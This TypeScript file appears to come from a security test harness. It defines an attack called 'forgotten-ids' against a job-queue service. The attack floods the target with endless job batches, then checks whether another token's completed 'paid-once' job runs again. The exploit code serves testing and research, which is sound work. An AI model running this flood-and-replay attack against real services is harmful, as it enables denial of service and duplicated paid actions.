import { setTimeout as pass } from 'node:timers/promises'
import type { Attack, Target } from './attack.ts'
import { call } from './call.ts'
import { allowing } from './third-party.ts'

const OF_BATCH = 50
const PAUSE_MS = 100
const LONGEST_MS = 10_000

/** Asks until it is accepted, or was before. */
async function enqueuePaid(victim: Target): Promise<void> {
  const data = { method: 'GET', url: `${victim.thirdParty}/paid` }
  const end = Date.now() + LONGEST_MS
  const ask = () => call(victim, 'POST', '/v1/buckets/victim%2Forders/jobs', { id: 'paid-once', data })
  while ((await ask()).status !== 202 && Date.now() < end) await pass(50)
}

export const forgottenIds: Attack = {
  name: 'forgotten-ids',
  what: `one token finishes ${(OF_BATCH * 1_000) / PAUSE_MS} jobs a second`,
  setting: (thirdParty) => ({
    limit: '100000, 1000/s',
    tokenLimit: '10000, 2000/s',
    more: allowing(thirdParty),
  }),
  dataOfVictim: (thirdParty) => ({ method: 'GET', url: `${thirdParty}/fast` }),
  async prepare(_, victim) {
    await enqueuePaid(victim)
    const end = Date.now() + LONGEST_MS
    const isDone = async () => (await call(victim, 'GET', '/v1/jobs/paid-once')).text.includes('"completed"')
    while (!(await isDone()) && Date.now() < end) await pass(50)
  },
  async run(target) {
    const job = { key: 'attacker', data: { method: 'GET', url: `${target.thirdParty}/fast` } }
    const jobs = Array.from({ length: OF_BATCH }, () => job)
    for (;;) {
      await call(target, 'POST', '/v1/jobs', { jobs })
      await pass(PAUSE_MS)
    }
  },
  async probe(victim, thirdParty) {
    const before = thirdParty.arrivals('/paid').length
    await enqueuePaid(victim)
    await pass(2_000)
    const again = thirdParty.arrivals('/paid').length - before
    return `a job of another token ran ${before} times, and its retry ran ${again} times`
  },
}
